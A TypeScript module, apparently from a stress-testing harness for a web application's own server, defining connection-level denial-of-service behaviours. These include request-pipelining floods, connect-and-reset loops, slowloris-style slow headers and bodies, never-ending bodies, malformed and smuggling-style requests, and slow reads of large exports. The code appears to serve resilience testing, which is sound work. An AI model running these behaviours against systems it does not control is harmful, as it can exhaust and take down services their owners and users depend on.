/** What an attacker does with connections alone: floods, slowness, endless and broken input. */
import { type Attack, between, oneOf } from './attack-target.ts';
import { requestHead, sendSlowly, waitFor, withConnection } from './raw-connection.ts';

export type Behaviour = (attack: Attack) => Promise<unknown>;

const pages = (attack: Attack): [string, ...string[]] => [
  `/api/public/${attack.publicEndpoint}/sample`,
  '/app/',
  '/ready',
  '/docs/commands',
  '/0123456789012345678901',
  '/api/account',
  `/${attack.lockedEndpoint}`,
  '/',
];

const formats = ['csv', 'json_records', 'json_columns', 'dynamic_table', 'xml'] as const;
const codings = ['identity', 'gzip', 'zstd'] as const;

export const connectionBehaviours: Readonly<Record<string, Behaviour>> = {
  'pipelines hundreds and reads nothing': (attack) =>
    withConnection(attack, async (socket) => {
      socket.pause().write(requestHead(`GET ${oneOf(attack, pages(attack))}`).repeat(850));
      await waitFor(2_000, attack);
    }),

  'pipelines a few and reads nothing': (attack) =>
    withConnection(attack, async (socket) => {
      socket.pause().write(requestHead(`GET ${oneOf(attack, pages(attack))}`).repeat(30));
      await waitFor(2_000, attack);
    }),

  'asks as fast as it can': (attack) =>
    withConnection(attack, async (socket) => {
      socket.resume();
      await sendSlowly(socket, attack, requestHead(`GET ${oneOf(attack, pages(attack))}`).repeat(20), 10);
    }),

  'connects and resets': async (attack) => {
    for (let count = 0; count < 50 && !attack.until.aborted; count++) {
      await withConnection(attack, async (socket) => {
        socket.write(requestHead(`GET ${oneOf(attack, pages(attack))}`));
        socket.resetAndDestroy();
      });
    }
  },

  'sends its headers slowly': (attack) =>
    withConnection(attack, async (socket) => {
      socket.resume().write('GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ');
      await sendSlowly(socket, attack, 'x', 500);
    }),

  'sends its body slowly': (attack) =>
    withConnection(attack, async (socket) => {
      const path = oneOf(attack, ['/api/auth/sign-in/email', '/urls/create', '/api/uploads?name=a.csv', '/']);
      const headers = ['Content-Type: application/json', 'Content-Length: 60000'];
      socket.resume().write(requestHead(`POST ${path}`, headers));
      await sendSlowly(socket, attack, '{', 500);
    }),

  'sends a body without end': (attack) =>
    withConnection(attack, async (socket) => {
      const line = oneOf(attack, [
        'POST /api/uploads?name=a.csv',
        'POST /stripe/events',
        'GET /',
        'POST /api/account',
      ]);
      socket.resume().write(requestHead(line, ['Content-Length: 100000000000', `Cookie: ${cookie(attack)}`]));
      await sendSlowly(socket, attack, Buffer.alloc(65_536, 'a'), 5);
    }),

  'sends what is no request': (attack) =>
    withConnection(attack, async (socket) => {
      const sent = oneOf(attack, [
        'GET / HTTP/9.9\r\n\r\n',
        '\0\0\0\0',
        requestHead('GET /', [`X-Long: ${'x'.repeat(20_000)}`]),
        requestHead('POST /', ['Content-Length: 5', 'Transfer-Encoding: chunked']),
        requestHead(`GET /${'%00'.repeat(50)}`),
        requestHead('GET /%zz?sql=%'),
        requestHead('CONNECT example.com:443'),
        requestHead('TRACE /'),
      ]);
      socket.resume().write(sent);
      await waitFor(1_000, attack);
    }),

  'asks for a large table and reads nothing': (attack) =>
    withConnection(attack, async (socket) => {
      const { endpoint } = attack.accounts[between(attack, 0, attack.accounts.length - 1)] ?? {
        endpoint: '',
      };
      const line = `GET /${endpoint}?type=${oneOf(attack, formats)}`;
      socket.pause().write(requestHead(line, [`Accept-Encoding: ${oneOf(attack, codings)}`]));
      await waitFor(between(attack, 500, 4_000), attack);
    }),

  'reads a large table slowly': (attack) =>
    withConnection(attack, async (socket) => {
      const { endpoint } = attack.accounts[0] ?? { endpoint: '' };
      socket.pause().write(requestHead(`GET /${endpoint}?type=${oneOf(attack, formats)}`));
      for (let count = 0; count < 40; count++) {
        socket.read(1_000);
        await waitFor(100, attack);
      }
    }),
};

function cookie(attack: Attack): string {
  return attack.accounts[between(attack, 0, attack.accounts.length - 1)]?.cookie ?? '';
}
